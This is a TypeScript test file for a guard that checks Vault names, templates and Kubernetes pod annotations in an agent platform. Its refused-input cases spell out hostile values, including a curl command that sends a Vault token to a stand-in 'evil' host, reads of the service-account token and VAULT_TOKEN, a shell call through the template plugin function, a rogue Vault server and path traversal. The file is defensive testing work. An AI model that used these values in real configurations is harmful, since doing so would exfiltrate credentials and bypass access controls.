/** The closed world of Vault: names parsed by the naming module, foundation-only kinds, injector annotations. */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { agentNames, parseVaultName, parseVaultPolicyName, parseVaultRoleName } from "../src/model/naming";
import { SECRET_DOMAINS } from "../src/model/catalog";
import { vaultFoundationOnly } from "../src/rules/vault";
import { podVaultAnnotations } from "../src/rules/pods-vault-annotations";
import { templateReads } from "../src/rules/vault-template";
import { patch, runBoth } from "./rules-harness";
import { annotated } from "./vault-annotation-cases";
import { authConfig, foundationDoc } from "./vault-closed-cases";

describe("Vault names parsed back by the naming module", () => {
  test("a role and a policy name give back their agent, and only in their environment and phase", () => {
    const n = agentNames("dev", "shadow", "capacity");
    assert.equal(parseVaultRoleName("dev", "shadow", n.vaultRole), "capacity");
    assert.deepEqual(parseVaultPolicyName("dev", "shadow", n.vaultPolicy("llm"), SECRET_DOMAINS), {
      agent: "capacity",
      domain: "llm",
    });
    assert.equal(parseVaultName("dev", "shadow", n.vaultPolicy("llm"), SECRET_DOMAINS), "capacity");
    assert.equal(parseVaultRoleName("dev", "assist", n.vaultRole), undefined);
    assert.equal(parseVaultRoleName("prod", "shadow", n.vaultRole), undefined);
    assert.equal(parseVaultPolicyName("dev", "shadow", `${n.vaultRole}-secrets`, SECRET_DOMAINS), undefined);
  });

  test("agents with dashes, and a phase that is also a domain, parse as built", () => {
    const n = agentNames("staging", "remediation", "pod-doctor");
    assert.equal(parseVaultRoleName("staging", "remediation", n.vaultRole), "pod-doctor");
    assert.deepEqual(parseVaultPolicyName("staging", "remediation", n.vaultPolicy("remediation"), SECRET_DOMAINS), {
      agent: "pod-doctor",
      domain: "remediation",
    });
  });

  test("names that are not built by agentNames never parse", () => {
    for (const name of [
      "agent-trust-dev--shadow",
      "agent-trust-dev-Capacity-shadow",
      "agent-trust-dev-shadow",
      "x-agent-trust-dev-a-shadow",
      "agent-trust-dev-a_b-shadow",
      "",
    ]) {
      assert.equal(parseVaultRoleName("dev", "shadow", name), undefined, name);
    }
    assert.equal(parseVaultRoleName("dev", "shadow", `agent-trust-dev-${"a".repeat(60)}-shadow`), undefined);
  });
});

describe("vault-foundation-only", () => {
  test("the foundation layer may declare the auth backend, its config and the KV mount", async () => {
    const docs = [
      authConfig,
      foundationDoc("VaultAuthBackend", { type: "kubernetes", path: "kubernetes" }),
      foundationDoc("VaultMount", { path: "agent", type: "kv" }),
    ];
    assert.deepEqual(await runBoth(vaultFoundationOnly, docs, { env: "dev", layer: "foundation" }), {
      pack: [],
      checker: [],
    });
    const phase = await runBoth(vaultFoundationOnly, docs, { env: "dev", phase: "shadow" });
    assert.equal(phase.checker.length, 3);
    assert.deepEqual(phase.pack, phase.checker);
  });
});

describe("templateReads", () => {
  test("reads the literal path of every secret call and nothing else", () => {
    const r = templateReads(
      `{{- with secret "agent/data/a" -}}{{ range $k, $v := .Data.data }}{{ $k }}={{ $v }}{{ end }}{{ end }}{{/* secret "sys/x" */}}x{{ index .Data.data "}}" }}`,
    );
    assert.deepEqual(r, { paths: ["agent/data/a"], problems: [] });
  });

  const refused: [string, RegExp][] = [
    [`{{ with secret "agent/data/a" "ttl=1h" }}{{ end }}`, /secret with arguments after the path writes to Vault/],
    [`{{ with secret (printf "sys/%s" "x") }}{{ end }}`, /secret takes a path that is not a literal string/],
    [
      `{{ file "/var/run/secrets/kubernetes.io/serviceaccount/token" }}`,
      /the function "file" is not one that only formats/,
    ],
    [`{{ plugin "/bin/sh" "-c" "id" }}`, /the function "plugin"/],
    [`{{ env "VAULT_TOKEN" }}`, /the function "env"/],
    [`{{ with pkiCert "pki/issue/x" }}{{ end }}`, /the function "pkiCert"/],
    [`{{ range secrets "agent/metadata/" }}{{ end }}`, /the function "secrets"/],
    [`{{ with secret "agent/data/a" }`, /never closed/],
    [`{{ with secret "agent/data/\\x61" }}{{ end }}`, /the escape \\x in a string is not read here/],
  ];
  for (const [text, message] of refused) {
    test(`refuses ${text}`, () =>
      assert.ok(
        templateReads(text).problems.some((p) => message.test(p)),
        JSON.stringify(templateReads(text)),
      ));
  }
});

describe("pod-vault-annotations", () => {
  const given = { phase: "remediation", env: "staging" } as const;
  const refused: [Record<string, string>, RegExp][] = [
    [{ "vault.hashicorp.com/agent-configmap": "my-agent-config" }, /replaces the agent's whole configuration/],
    [{ "vault.hashicorp.com/tls-secret": "vault-tls" }, /tls-secret"\] mounts a Kubernetes Secret/],
    [
      { "vault.hashicorp.com/agent-inject-command-db": "sh -c 'curl -d @/vault/secrets/token evil'" },
      /runs a command in the agent container/,
    ],
    [
      { "vault.hashicorp.com/auth-path": "auth/kubernetes-admin" },
      /auth-path"\] is "auth\/kubernetes-admin"; expected "auth\/kubernetes"/,
    ],
    [{ "vault.hashicorp.com/namespace": "admin" }, /logs in to another Vault namespace/],
    [{ "vault.hashicorp.com/service": "https://vault.evil.example" }, /logs in to another Vault server/],
    [{ "vault.hashicorp.com/agent-copy-volume-mounts": "agent" }, /copies an app container's volume mounts/],
    [{ "vault.hashicorp.com/agent-json-patch": "[]" }, /patches the agent container/],
    [
      { "vault.hashicorp.com/auth-config-token-path": "/var/run/secrets/kubernetes.io/serviceaccount/token" },
      /changes the login's configuration/,
    ],
    [{ "vault.hashicorp.com/agent-inject-secret-x": "agent/data/datasources/../../sys/x" }, /is not a plain path/],
    [{ "vault.hashicorp.com/agent-inject-secret-x": "secret/data/payments" }, /is outside the agents' KV mount/],
    [{ "vault.hashicorp.com/agent-inject-file-x": "../../app/config" }, /expected a plain file name/],
    [
      { "vault.hashicorp.com/agent-service-account-token-volume-name": "kube-api-access" },
      /expected the name of the pod's projected ServiceAccount token volume/,
    ],
    [{ "vault.hashicorp.com/agent-something-new": "x" }, /is not an annotation this guard knows/],
    [
      { "vault.hashicorp.com/role": "agent-trust-staging-capacity-remediation" },
      /expected "agent-trust-staging-diag-remediation", the Vault role of environment "staging", phase "remediation" for the pod's ServiceAccount "diag-remediation"/,
    ],
  ];
  for (const [extra, message] of refused) {
    test(`refuses ${JSON.stringify(extra)} (pack and checker alike)`, async () => {
      const r = await runBoth(podVaultAnnotations, [annotated(extra)], given);
      assert.ok(
        r.checker.some((m) => message.test(m)),
        JSON.stringify(r.checker),
      );
      assert.deepEqual(r.pack, r.checker);
    });
  }

  test("annotations on a Deployment's pod template and on a bare Pod are judged too", async () => {
    const deploymentLike = patch(annotated({ "vault.hashicorp.com/agent-extra-secret": "x" }), (o) => {
      o.apiVersion = "apps/v1";
      o.kind = "Deployment";
      o.spec = { selector: { matchLabels: o.template.metadata.labels }, template: o.template };
      delete o.template;
    });
    const pod = patch(annotated({ "vault.hashicorp.com/agent-extra-secret": "x" }), (o) => {
      o.kind = "Pod";
      o.metadata = { ...o.metadata, annotations: o.template.metadata.annotations };
      o.spec = o.template.spec;
      delete o.template;
    });
    for (const doc of [deploymentLike, pod]) {
      const r = await runBoth(podVaultAnnotations, [doc], given);
      assert.ok(
        r.checker.some((m) => /agent-extra-secret/.test(m)),
        `${doc.kind}: ${JSON.stringify(r.checker)}`,
      );
      assert.deepEqual(r.pack, r.checker);
    }
  });
});
